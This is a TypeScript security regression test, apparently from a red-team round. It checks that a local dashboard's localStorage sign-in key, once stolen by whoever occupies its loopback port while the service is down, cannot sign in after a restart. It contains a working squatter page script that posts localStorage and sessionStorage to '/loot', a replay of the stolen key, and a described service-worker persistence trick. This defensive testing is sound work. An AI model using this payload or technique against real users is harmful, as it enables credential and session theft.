import { once } from 'node:events';
import { mkdtemp, rm } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser } from 'puppeteer-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type LocalService, startLocalService } from '../../local/localService';
import { launchChromium } from '../../shared/capture/chromiumLaunch';

/**
 * Red team (round 6): the dashboard keeps the data folder's sign-in key in localStorage of http://127.0.0.1:<PORT>
 * (web/public/session.js, adoptSignInKey), "so later visits to http://127.0.0.1:3000/ from the same browser need no
 * link" (README), and the key is the same at every start (DATA_DIR/secrets/sign-in.key). localStorage belongs to the
 * origin, not to the process that served the page: whoever listens on 127.0.0.1:<PORT> while `npm start` does not
 * (another user of the machine, waiting for the port to be free; or anyone's dev server on the popular port 3000)
 * serves a page that the developer's next visit runs in the dashboard's origin, which reads the key. Once `npm start`
 * runs again, the key signs in as any account (`POST /local/session`): every account's webhook secret, jobs and keys,
 * exactly what the key was added to stop (test/security/localSessionOtherUsers.test.ts).
 *
 * Passes once a key that leaked while the service was down is worthless when it starts again (e.g. a new key at
 * every start, printed in the link), or once the page keeps no reusable key in storage the origin's next occupant
 * reads. Not enough on its own (shown by hand, red team round 6): the same occupant can register a service worker
 * for http://127.0.0.1:<PORT> (a loopback origin counts as secure), which outlives its server and, once `npm start`
 * is back, saw the new sign-in link's fragment, the X-Sign-In-Key header and every session token the dashboard sent.
 */

let dataDir: string;
let browser: Browser;
let service: LocalService | undefined;
let squatter: Server | undefined;

beforeAll(async () => {
  dataDir = await mkdtemp(join(tmpdir(), 'sign-in-squat-'));
  browser = (await launchChromium()).browser;
}, 120_000);

afterAll(async () => {
  await browser?.close();
  await service?.close();
  squatter?.close();
  await rm(dataDir, { recursive: true, force: true });
});

const start = (port: number) =>
  startLocalService({ dataDir, port, inMemoryStore: true, env: { ...process.env } });

describe("the dashboard's sign-in key against the next occupant of its port", () => {
  it('does not let a page served on the port while npm start is down sign in once it is back', async () => {
    // The developer runs npm start and opens the link it printed; the page keeps the key.
    service = await start(0);
    const port = Number(new URL(service.url).port);
    const tab = await browser.newPage();
    await tab.goto(service.signInLink, { waitUntil: 'load' });
    await tab.waitForFunction(() => !location.hash, { timeout: 15_000 });
    // npm start is stopped (Ctrl-C, a restart, a crash).
    await service.close();
    service = undefined;

    // Another user takes the port meanwhile: its page reads the origin's localStorage and sends it home.
    let steal: (storage: Record<string, string>) => void = () => undefined;
    const loot = new Promise<Record<string, string>>((resolve) => {
      steal = resolve;
    });
    const server = createServer((req, res) => {
      if (req.method === 'POST') {
        let body = '';
        req.on('data', (chunk: Buffer) => {
          body += chunk.toString('utf8');
        });
        req.on('end', () => {
          steal(JSON.parse(body) as Record<string, string>);
          res.writeHead(204).end();
        });
        return;
      }
      res
        .writeHead(200, { 'Content-Type': 'text/html' })
        .end(
          "<script>fetch('/loot', { method: 'POST', body: JSON.stringify({ ...localStorage, ...sessionStorage }) })</script>",
        );
    });
    squatter = server;
    server.listen(port, '127.0.0.1');
    await once(server, 'listening');
    // The developer's later visit to the dashboard's address (a bookmark, the README's "no link needed").
    await tab.goto(`http://127.0.0.1:${port}/`, { waitUntil: 'load' });
    const stolen = Object.values(await loot);
    expect(stolen.length).toBeGreaterThan(0);
    await new Promise((resolve) => server.close(resolve));
    squatter = undefined;

    // npm start runs again on its port: what the page gave away must not sign in.
    service = await start(port);
    const signedIn: string[] = [];
    for (const key of stolen) {
      const response = await fetch(`${service.url}/local/session`, {
        method: 'POST',
        headers: { 'Content-Type': 'application/json', 'X-Sign-In-Key': key },
        body: JSON.stringify({ accountId: 'victim-account' }),
      });
      if (response.ok && typeof ((await response.json()) as { token?: unknown }).token === 'string')
        signedIn.push(key);
    }
    expect(signedIn).toEqual([]);
  }, 120_000);
});
